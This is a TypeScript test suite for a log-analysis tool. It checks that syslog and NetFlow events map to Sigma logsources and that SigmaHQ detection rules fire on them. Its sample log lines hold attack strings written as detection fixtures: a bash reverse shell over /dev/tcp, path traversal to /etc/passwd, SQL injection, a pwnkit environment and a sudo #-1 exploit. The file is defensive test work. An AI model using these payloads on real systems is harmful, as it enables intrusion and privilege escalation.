/**
 * The logsource table (logsources.yaml) and field mappings (mappings/) against what socnoc really
 * emits: raw syslog lines go through the syslog parser and normalizers, flow records through the
 * NetFlow decoder and normalizer, and SigmaHQ rules (DRL 1.1, testdata/ and
 * correlation/sigma/testdata/) must route to and fire on them.
 */
import { join } from 'node:path';
import { loadSigmaRules } from '../../correlation/sigma/load';
import { loadFieldMappings } from '../../correlation/sigma/field-mapping';
import { loadLogsourceTable } from '../../correlation/sigma/logsource';
import { compileRule } from '../../correlation/sigma/compile';
import { parseSigmaText } from '../../correlation/sigma/parse';
import type { SigmaRule } from '../../correlation/sigma/types';
import { SigmaRuleSet } from '../../correlation/sigma/ruleset';
import { decodeFlowPacket, FlowTemplateCache } from '../../collectors/netflow/decode';
import { FlowNormalizer } from '../../collectors/netflow/normalize';
import { readCapture } from '../../collectors/netflow/testdata/captures';
import { AgencyResolver } from '../../core/tenancy';
import { syslogEvent } from './testing/events';

const table = loadLogsourceTable(join(__dirname, 'logsources.yaml'));
const mappings = loadFieldMappings(join(__dirname, 'mappings'));

interface Expected {
  product?: string;
  services: string[];
  categories: string[];
}

function logsourceOf(event: unknown): Expected {
  const ls = table.derive(event);
  return { product: ls.product, services: [...ls.services], categories: [...ls.categories] };
}

const SSHD = '<38>Mar  4 10:16:01 web01 sshd[2901]: Failed password for root from 203.0.113.9 port 40122 ssh2';
const SUDO = '<85>Mar  4 10:30:00 web01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt update';
const SU = '<85>Mar  4 10:31:30 web01 su[3120]: FAILED SU (to root) eve on pts/1';
const USERADD = '<86>Mar  4 10:40:00 web01 useradd[3300]: new user: name=alice, UID=1002, GID=1002, home=/home/alice, shell=/bin/bash, from=/dev/pts/0';
const PAM_LOGIN = '<85>Mar  4 10:50:30 web01 login[913]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=  user=operator';
const CRON = '<78>Mar  4 11:00:01 web01 CRON[5121]: (root) CMD (/usr/local/bin/backup.sh)';
const IOS_LOGIN = '<188>1541: Mar  4 10:21:45.101 UTC: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.77] [localport: 22] [Reason: Login Authentication Failed] at 10:21:45 UTC Mon Mar 4 2024';
const IOS_ACL_DENY = '<190>1610: Mar  4 10:52:00.000 UTC: %SEC-6-IPACCESSLOGP: list 101 denied tcp 203.0.113.9(4444) -> 10.1.1.10(23), 1 packet';
const LOGIN_FAILED = "<86>Mar  4 10:30:00 srv01 login[612]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure";
const ASA_DENY = '<164>Mar 04 2024 10:16:00 fw01 : %ASA-4-106023: Deny tcp src outside:198.51.100.77/44521 dst inside:10.1.2.50/3389 by access-group "outside_access_in" [0x8ed66b60, 0xf8852875]';
const FGT_TRAFFIC =
  '<189>date=2024-03-04 time=17:16:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709547360000000000 tz="+0700" logid="0001000014" type="traffic" subtype="local" level="notice" vd="root" srcip=203.0.113.99 srcport=52000 srcintf="wan1" srcintfrole="wan" dstip=198.51.100.2 dstport=23 dstintf="root" dstintfrole="undefined" sessionid=2201 proto=6 action="deny" policyid=0 policytype="local-in-policy" service="TELNET" trandisp="noop" duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 rcvdpkt=0';
const FGT_DNS =
  '<189>date=2024-03-04 time=17:40:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709548800000000000 tz="+0700" logid="1501054802" type="dns" subtype="dns-response" level="notice" vd="root" policyid=1 sessionid=13355 srcip=10.1.100.11 srcport=54621 srcintf="port2" srcintfrole="lan" dstip=10.1.1.53 dstport=53 dstintf="port1" dstintfrole="lan" proto=17 profile="default" xid=5137 qname="www.example.com" qtype="A" qtypeval=1 qclass="IN" ipaddr="93.184.216.34" msg="Domain is monitored" action="pass" cat=52 catdesc="Information Technology"';
const PANOS =
  '<14>Mar  4 10:15:40 pa-fw01 1,2024/03/04 10:15:32,012801096514,TRAFFIC,drop,2561,2024/03/04 10:15:31,203.0.113.40,198.51.100.20,0.0.0.0,0.0.0.0,Deny-All,,,not-applicable,vsys1,untrust,dmz,ethernet1/1,,default,2024/03/04 10:15:31,0,1,51000,3389,0,0,0x400053,tcp,deny,60,60,0,1,2024/03/04 10:14:59,0,any,,7253419119627122716,0x8000000000000000,Russian Federation,10.0.0.0-10.255.255.255,,1,0,policy-deny,0,0,0,0,,pa-fw01,from-policy,,,0,,0,,N/A,0,0,0,0,c1b2a3d4-1111-2222-3333-444455556666,0,0,0,';
const PFSENSE = '<134>Mar  4 10:15:32 filterlog[50466]: 5,,,1000000103,igb1,match,block,in,4,0x0,,242,51782,0,none,6,tcp,40,185.220.101.45,198.51.100.2,44567,3389,0,S,3271451238,,1024,,';
const NGINX = '<190>Mar  4 10:15:32 web01 nginx: 203.0.113.10 - - [04/Mar/2024:10:15:32 +0000] "GET /index.html HTTP/1.1" 200 612 "https://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0"';
const APACHE = '<190>Mar  4 10:15:35 web02 apache2: www.example.com:443 198.51.100.20 - - [04/Mar/2024:10:15:35 +0000] "GET /static/app.js HTTP/1.1" 200 48213 "https://www.example.com/" "Mozilla/5.0"';
const WINLOGBEAT_4625 =
  '<134>Mar  4 10:15:32 logstash01 winlogbeat: {"@timestamp":"2024-03-04T10:15:31.512Z","event":{"code":"4625","provider":"Microsoft-Windows-Security-Auditing"},"winlog":{"channel":"Security","computer_name":"DC01.corp.example.com","event_id":"4625","provider_name":"Microsoft-Windows-Security-Auditing","keywords":["Audit Failure"],"event_data":{"TargetUserName":"administrator","TargetDomainName":"CORP","Status":"0xc000006d","SubStatus":"0xc000006a","LogonType":"3","WorkstationName":"KALI","IpAddress":"203.0.113.50","IpPort":"49532"}},"message":"An account failed to log on."}';
const NXLOG_SYSMON_22 =
  '<14>Mar  4 11:20:00 WS042.corp.example.com Microsoft-Windows-Sysmon[2280]: {"EventTime":"2024-03-04 18:20:00","Hostname":"WS042.corp.example.com","EventType":"INFO","EventID":22,"SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Message":"Dns query","QueryName":"cdn.anonfiles.com","QueryStatus":"0","QueryResults":"::ffff:198.51.100.66;","Image":"C:\\\\Users\\\\asmith\\\\AppData\\\\Local\\\\Temp\\\\updater.exe","User":"CORP\\\\asmith"}';

describe('logsource derived for events the syslog collector emits', () => {
  it.each<[string, string, Expected]>([
    ['sshd', SSHD, { product: 'linux', services: ['sshd', 'auth', 'syslog'], categories: [] }],
    // The command sudo ran is an ECS process start: Linux process_creation rules see it too.
    ['sudo', SUDO, { product: 'linux', services: ['sudo', 'auth', 'syslog'], categories: ['process_creation'] }],
    ['su', SU, { product: 'linux', services: ['auth', 'syslog'], categories: [] }],
    ['useradd', USERADD, { product: 'linux', services: ['auth', 'syslog'], categories: [] }],
    ['PAM from login', PAM_LOGIN, { product: 'linux', services: ['auth', 'syslog'], categories: [] }],
    ['cron (no normalizer)', CRON, { product: 'linux', services: ['syslog', 'auth', 'cron', 'vsftpd', 'clamav', 'guacamole'], categories: [] }],
    ['Cisco IOS', IOS_LOGIN, { product: 'cisco', services: ['syslog', 'aaa'], categories: [] }],
    // Access-list logging makes the router a firewall for the cross-vendor firewall rules.
    ['Cisco IOS access-list deny', IOS_ACL_DENY, { product: 'cisco', services: ['syslog', 'aaa'], categories: ['firewall', 'network_connection'] }],
    ['console login failure', LOGIN_FAILED, { product: 'linux', services: ['auth', 'syslog'], categories: [] }],
    ['Cisco ASA deny', ASA_DENY, { product: 'cisco', services: ['syslog', 'aaa'], categories: ['firewall', 'network_connection'] }],
    ['FortiGate traffic', FGT_TRAFFIC, { product: 'fortigate', services: ['event'], categories: ['firewall', 'network_connection'] }],
    ['FortiGate DNS filter', FGT_DNS, { product: 'fortigate', services: ['event'], categories: ['firewall', 'dns'] }],
    ['PAN-OS traffic', PANOS, { product: 'paloalto', services: [], categories: ['firewall', 'network_connection'] }],
    ['pfSense filterlog', PFSENSE, { product: 'pfsense', services: [], categories: ['firewall', 'network_connection'] }],
    ['nginx access', NGINX, { product: 'nginx', services: [], categories: ['webserver'] }],
    ['Apache vhost access', APACHE, { product: 'apache', services: ['access'], categories: ['webserver'] }],
    ['Winlogbeat Security 4625', WINLOGBEAT_4625, { product: 'windows', services: ['security'], categories: [] }],
    ['NXLog Sysmon 22', NXLOG_SYSMON_22, { product: 'windows', services: ['sysmon'], categories: ['dns_query', 'dns'] }],
  ])('%s', (_name, line, expected) => {
    const event = syslogEvent(line);
    expect(event.error).toBeUndefined();
    expect(logsourceOf(event)).toEqual(expected);
  });

  it('agrees with SigmaRuleSet.logsourceOf', () => {
    const set = new SigmaRuleSet([], { logsources: table });
    expect(set.logsourceOf(syslogEvent(SUDO))).toBe(table.derive(syslogEvent(SUDO)));
  });
});

// Written for this test: the Sigma 2.1 generic network logsource with ECS fields, and a
// product-less network_connection rule with Sysmon field names.
const FLOW_RULE_ECS = `title: flow to port 22 (ECS fields)
logsource: { category: network, service: connection }
detection:
    selection: { destination.port: 22, network.transport: tcp }
    condition: selection
`;
const FLOW_RULE_SYSMON_NAMES = `title: flow to port 22 (Sysmon field names)
logsource: { category: network_connection }
detection:
    selection: { DestinationPort: 22, Protocol: tcp }
    condition: selection
`;

describe('logsource derived for flow records', () => {
  const agencies = new AgencyResolver([{ id: 'lab', name: 'Lab', cidrs: ['10.0.0.0/8'] }]);
  const normalizer = new FlowNormalizer({ agencies, internalNetworks: ['10.0.0.0/8'] });

  function captureEvents(): Record<string, unknown>[] {
    const cache = new FlowTemplateCache();
    const received = Date.parse('2026-11-27T03:00:00.000Z');
    const events: Record<string, unknown>[] = [];
    for (const pkt of readCapture('softflowd-v5')) {
      const r = decodeFlowPacket(pkt, { exporter: '127.0.0.1', receivedMs: received }, cache);
      const ctx = normalizer.packetContext('127.0.0.1', received);
      for (const f of r.flows) events.push(normalizer.flowEvent(f, ctx) as unknown as Record<string, unknown>);
    }
    return events;
  }

  it('NetFlow v5 records are Sigma network/connection and network_connection events', () => {
    const events = captureEvents();
    expect(events.length).toBeGreaterThan(0);
    for (const e of events) expect(logsourceOf(e)).toEqual({ product: undefined, services: ['connection'], categories: ['network', 'network_connection'] });
  });

  it('a network/connection rule and a product-less network_connection rule fire on the SSH flow', () => {
    const rules = [FLOW_RULE_ECS, FLOW_RULE_SYSMON_NAMES].map((text) => {
      const parsed = parseSigmaText(text, 'inline.yml');
      expect(parsed.errors).toEqual([]);
      return compileRule(parsed.documents[0] as SigmaRule, { mappings });
    });
    const set = new SigmaRuleSet(rules, { logsources: table });
    const events = captureEvents();
    const ssh = events.filter((e) => (e.destination as { port?: number } | undefined)?.port === 22);
    expect(ssh.length).toBeGreaterThan(0);
    for (const e of ssh) expect(set.match(e).map((r) => r.title).sort()).toEqual(['flow to port 22 (ECS fields)', 'flow to port 22 (Sysmon field names)']);
    const other = events.find((e) => (e.destination as { port?: number } | undefined)?.port !== 22 && (e.source as { port?: number } | undefined)?.port !== 22);
    expect(other).toBeDefined();
    expect(set.match(other as Record<string, unknown>)).toEqual([]);
  });
});

describe('field mappings for the logsources socnoc routes', () => {
  it.each<[string, Record<string, string>, string, string[]]>([
    ['webserver query', { category: 'webserver' }, 'cs-uri-query', ['url.original', 'url.query', 'cs-uri-query']],
    ['webserver user agent (proxy spelling)', { category: 'webserver' }, 'c-useragent', ['user_agent.original', 'c-useragent']],
    ['webserver user agent (W3C spelling)', { category: 'webserver' }, 'cs-user-agent', ['user_agent.original', 'cs-user-agent']],
    ['webserver status', { category: 'webserver' }, 'sc-status', ['http.response.status_code', 'sc-status']],
    ['FortiGate raw key', { product: 'fortigate', service: 'event' }, 'cfgpath', ['fortinet.fortigate.cfgpath', 'fortinet.firewall.cfgpath', 'cfgpath']],
    ['sudo target user', { product: 'linux', service: 'sudo' }, 'USER', ['user.effective.name', 'user.target.name', 'USER']],
    ['firewall destination port', { category: 'firewall' }, 'dst_port', ['destination.port', 'dst_port']],
    ['DNS query name', { category: 'dns' }, 'query', ['dns.question.name', 'winlog.event_data.QueryName', 'Event.EventData.QueryName', 'fortinet.fortigate.qname', 'query']],
    ['flow destination (Sysmon name)', { category: 'network_connection' }, 'DestinationPort', ['destination.port', 'DestinationPort']],
    ['ECS name under a Windows logsource', { product: 'windows', service: 'security' }, 'source.ip', ['winlog.event_data.source.ip', 'winlog.user_data.source.ip', 'Event.EventData.source.ip', 'Event.UserData.source.ip', 'Event.System.source.ip', 'source.ip']],
  ])('%s', (_name, logsource, field, expected) => {
    expect(mappings.resolve(logsource, field)).toEqual(expected);
  });

  it('Linux keyword rules search the whole raw line first (the program name is not in MSG)', () => {
    expect(mappings.keywordFields({ product: 'linux', service: 'auth' })).toEqual(['event.original', 'message']);
    expect(mappings.keywordFields({ product: 'cisco', service: 'aaa' })).toEqual(['message', 'event.original']);
  });
});

describe('SigmaHQ rules (DRL 1.1) fire on real socnoc events', () => {
  const sigmahqHere = join(__dirname, 'testdata', 'sigmahq');
  const sigmahqEngine = join(__dirname, '../../correlation/sigma/testdata/sigmahq');
  const loaded = loadSigmaRules(
    [
      sigmahqHere,
      join(sigmahqEngine, 'lnx_sshd_susp_ssh.yml'),
      join(sigmahqEngine, 'lnx_susp_jexboss.yml'),
      join(sigmahqEngine, 'cisco_cli_clear_logs.yml'),
      join(sigmahqEngine, 'fortinet_fortigate_new_admin_account_created.yml'),
      join(sigmahqEngine, 'web_path_traversal_exploitation_attempt.yml'),
      join(sigmahqEngine, 'web_webshell_regeorg.yml'),
      join(sigmahqEngine, 'dns_query_win_anonymfiles_com.yml'),
    ],
    { mappings },
  );
  const set = new SigmaRuleSet(loaded.rules, { logsources: table });

  function titleOf(file: string): string {
    const rule = loaded.rules.find((r) => r.rule.location.file.endsWith(`/${file}`));
    if (rule === undefined) throw new Error(`SigmaHQ rule ${file} is not loaded`);
    return rule.title;
  }

  it('loads every copied rule', () => {
    expect(loaded.errors).toEqual([]);
    expect(loaded.rules).toHaveLength(18);
  });

  it.each<[string, string, string[], string[]]>([
    [
      'linux/sshd keywords',
      'lnx_sshd_susp_ssh.yml',
      ['<38>Mar  4 10:18:00 web01 sshd[3001]: ssh_dispatch_run_fatal: Connection from 198.51.100.23 port 61022: Corrupted MAC on input. [preauth]'],
      [SSHD],
    ],
    [
      'linux/sudo USER field (user.effective.name)',
      'lnx_sudo_exploit_cve_2019_14287.yml',
      ['<85>Mar  4 10:40:00 web01 sudo:      eve : TTY=pts/1 ; PWD=/home/eve ; USER=#-1 ; COMMAND=/bin/bash'],
      [SUDO],
    ],
    [
      'linux/auth keywords over the whole line (pkexec has no normalizer)',
      'lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml',
      [
        '<84>Mar  4 10:41:00 web01 pkexec[2961]: eve: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/home/eve] [COMMAND=GCONV_PATH=./pwnkit.so:. PATH=GCONV_PATH=. CHARSET=PWNKIT SHELL=pwnkit]',
      ],
      ['<85>Mar  4 10:41:00 web01 pkexec[2962]: eve: Error executing command as another user: Not authorized [USER=root] [TTY=/dev/pts/0] [CWD=/home/eve] [COMMAND=/usr/bin/id]'],
    ],
    [
      'linux keywords on useradd',
      'lnx_privileged_user_creation.yml',
      ['<86>Mar  4 10:44:00 web01 useradd[3400]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0'],
      [USERADD],
    ],
    [
      'linux product keywords on an unrecognised daemon',
      'lnx_susp_jexboss.yml',
      ['<14>Mar  4 10:45:00 app01 java[2211]: exec: bash -c /bin/bash -i >&/dev/tcp/203.0.113.99/4444 0>&1'],
      [CRON],
    ],
    [
      'cisco/aaa keywords on an IOS logged command',
      'cisco_cli_clear_logs.yml',
      ['<189>1562: Mar  4 10:32:00.000 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:netadmin  logged command:clear logging'],
      ['<189>1560: Mar  4 10:30:00.000 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:netadmin  logged command:interface GigabitEthernet0/3'],
    ],
    [
      'cisco/aaa keywords on an ASA command',
      'cisco_cli_disable_logging.yml',
      ["<165>Mar 04 2024 10:22:00 fw01 : %ASA-5-111008: User 'netadmin' executed the 'no logging enable' command."],
      ["<165>Mar 04 2024 10:22:00 fw01 : %ASA-5-111008: User 'netadmin' executed the 'write memory' command."],
    ],
    [
      'fortigate/event raw FortiOS keys',
      'fortinet_fortigate_new_admin_account_created.yml',
      [
        '<189>date=2024-03-04 time=17:36:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709548560000000000 tz="+0700" logid="0100044546" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.1.100.5)" action="Add" cfgtid=1240 cfgpath="system.admin" cfgobj="helpdesk2" cfgattr="accprofile[super_admin]" msg="Add system.admin helpdesk2"',
      ],
      [
        '<189>date=2024-03-04 time=17:31:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709548260000000000 tz="+0700" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.1.100.5)" action="Edit" cfgtid=1234 cfgpath="firewall.policy" cfgobj="1" cfgattr="action[accept->deny]" msg="Edit firewall.policy 1"',
      ],
    ],
    [
      'fortigate/event new firewall policy',
      'fortinet_fortigate_new_firewall_policy_added.yml',
      [
        '<189>date=2024-03-04 time=17:37:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709548620000000000 tz="+0700" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.1.100.5)" action="Add" cfgtid=1241 cfgpath="firewall.policy" cfgobj="42" cfgattr="srcintf[wan1]dstintf[port2]srcaddr[all]dstaddr[all]action[accept]service[ALL]" msg="Add firewall.policy 42"',
      ],
      [
        '<189>date=2024-03-04 time=17:31:00 devname="FGT60F-HQ" devid="FGT60FTK21000001" eventtime=1709548260000000000 tz="+0700" logid="0100044547" type="event" subtype="system" level="information" vd="root" logdesc="Object attribute configured" user="admin" ui="GUI(10.1.100.5)" action="Edit" cfgtid=1234 cfgpath="firewall.policy" cfgobj="1" cfgattr="action[accept->deny]" msg="Edit firewall.policy 1"',
      ],
    ],
    [
      'firewall category on FortiGate traffic',
      'net_firewall_cleartext_protocols.yml',
      [FGT_TRAFFIC.replace('action="deny"', 'action="accept"')],
      [FGT_TRAFFIC, FGT_TRAFFIC.replace('action="deny"', 'action="accept"').replace('dstport=23', 'dstport=443')],
    ],
    ['dns category on FortiGate DNS-filter logs', 'net_dns_susp_b64_queries.yml', [FGT_DNS.replace('www.example.com', 'aGVsbG8gd29ybGQ==.x.example.net')], [FGT_DNS]],
    [
      'webserver cs-uri-query on nginx',
      'web_path_traversal_exploitation_attempt.yml',
      ['<190>Mar  4 10:16:00 web01 nginx: 203.0.113.30 - - [04/Mar/2024:10:16:00 +0000] "GET /cgi-bin/.%2e/.%2e/../../../etc/passwd HTTP/1.1" 400 150 "-" "curl/8.5.0"'],
      [NGINX],
    ],
    [
      'webserver null referrer and user agent',
      'web_webshell_regeorg.yml',
      ['<190>Mar  4 10:17:00 web02 apache2: 198.51.100.9 - - [04/Mar/2024:10:17:00 +0000] "POST /uploads/tunnel.jsp?cmd=connect&target=10.1.2.50&port=3389 HTTP/1.1" 200 0 "-" "-"'],
      ['<190>Mar  4 10:17:00 web02 apache2: 198.51.100.9 - - [04/Mar/2024:10:17:00 +0000] "POST /uploads/tunnel.jsp?cmd=connect&target=10.1.2.50&port=3389 HTTP/1.1" 200 0 "-" "Mozilla/5.0"'],
    ],
    [
      'webserver keywords with cs-method',
      'web_sql_injection_in_access_logs.yml',
      ['<190>Mar  4 10:18:00 web01 nginx: 203.0.113.31 - - [04/Mar/2024:10:18:00 +0000] "GET /item.php?id=1%20order%20by%2010-- HTTP/1.1" 500 0 "-" "Mozilla/5.0"'],
      [NGINX],
    ],
    [
      'webserver user agent',
      'web_susp_useragents.yml',
      ['<190>Mar  4 10:19:00 web01 nginx: 203.0.113.32 - - [04/Mar/2024:10:19:00 +0000] "GET /login.php?user=1 HTTP/1.1" 200 512 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"'],
      [NGINX],
    ],
    [
      'windows/security from NXLog JSON',
      'win_security_user_creation.yml',
      [
        '<14>Mar  4 11:00:00 DC01.corp.example.com Microsoft-Windows-Security-Auditing[636]: {"EventTime":"2024-03-04 18:00:00","Hostname":"DC01.corp.example.com","EventType":"AUDIT_SUCCESS","EventID":4720,"SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","Message":"A user account was created.","TargetUserName":"svc-backup2","TargetDomainName":"CORP","SubjectUserName":"Administrator","SubjectDomainName":"CORP"}',
      ],
      [WINLOGBEAT_4625],
    ],
    [
      'windows/sysmon DNS query from NXLog JSON',
      'dns_query_win_anonymfiles_com.yml',
      [NXLOG_SYSMON_22],
      [NXLOG_SYSMON_22.replace('cdn.anonfiles.com', 'cdn.example.com')],
    ],
  ])('%s (%s)', (_name, file, positives, negatives) => {
    const title = titleOf(file);
    for (const line of positives) expect(set.match(syslogEvent(line)).map((r) => r.title)).toContain(title);
    for (const line of negatives) expect(set.match(syslogEvent(line)).map((r) => r.title)).not.toContain(title);
  });
});
